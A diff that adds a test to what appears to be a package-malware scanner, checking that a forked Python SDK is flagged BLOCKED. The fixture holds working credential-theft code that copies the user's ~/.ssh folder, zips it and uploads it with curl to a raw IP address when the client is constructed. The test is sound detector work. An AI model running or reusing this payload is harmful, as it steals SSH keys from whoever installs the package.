@@ -150,6 +150,19 @@ test('archive: a Telegram SDK posting to the bot API is not exfiltration; anothe
   assert.is(named.level, 'BLOCKED');
 });
 
+test('archive: a fork of an SDK whose client constructor runs a credential upload with curl to an IP is BLOCKED; the same SDK without it is not', async () => {
+  const sdk = {
+    'vendorsdk/__init__.py': 'from .mgmt import Management\n',
+    'vendorsdk/mgmt.py': 'import requests\nfrom .services import api\nclass Management:\n    def __init__(self, host, token):\n        self.s = requests.Session()\n        self.s.headers["Authorization"] = "ApiToken " + token\n        self.api = api.run()\n',
+    'setup.py': "from setuptools import setup\nsetup(name='vendorsdk', version='1.0', packages=['vendorsdk', 'vendorsdk.services'])\n",
+  };
+  const thief = "import os, shutil, pwd\ndef run():\n    user = pwd.getpwuid(os.getuid())[0]\n    shutil.copytree('/Users/' + user + '/.ssh', '/tmp/l/ssh')\n    shutil.make_archive('/tmp/l', 'zip', '/tmp/l')\n    command = \"curl -k -F \\\"file=@/tmp/l.zip\\\" \\\"https://45.13.22.8/api/v1/file/upload\\\"\"\n    os.system(command)\n";
+  const bad = await level('vendorsdk', { ...sdk, 'vendorsdk/services/__init__.py': '', 'vendorsdk/services/api.py': thief });
+  assert.is(bad.level, 'BLOCKED', bad.analysis.findings.map((f) => `${f.ruleId}:${f.severity}`).join(', '));
+  const good = await level('vendorsdk', { ...sdk, 'vendorsdk/services/__init__.py': '', 'vendorsdk/services/api.py': 'def run():\n    return {"version": "2.1"}\n' });
+  assert.ok(good.level === 'CLEAR' || good.level === 'MONITORED', good.level);
+});
+
 test('OwnHosts for npm: homepage host, repository path on a code host, declared binary host, the registry it came from', () => {
   const meta = npmMetadata({ name: 'acme-widgets', homepage: 'https://docs.acmewidgets.example/guide', repository: 'github:acme-org/widgets', binary: { host: 'https://dl.widgetcdn.example' } });
   const own = new OwnHosts(meta, ['registry.mirror.example']);
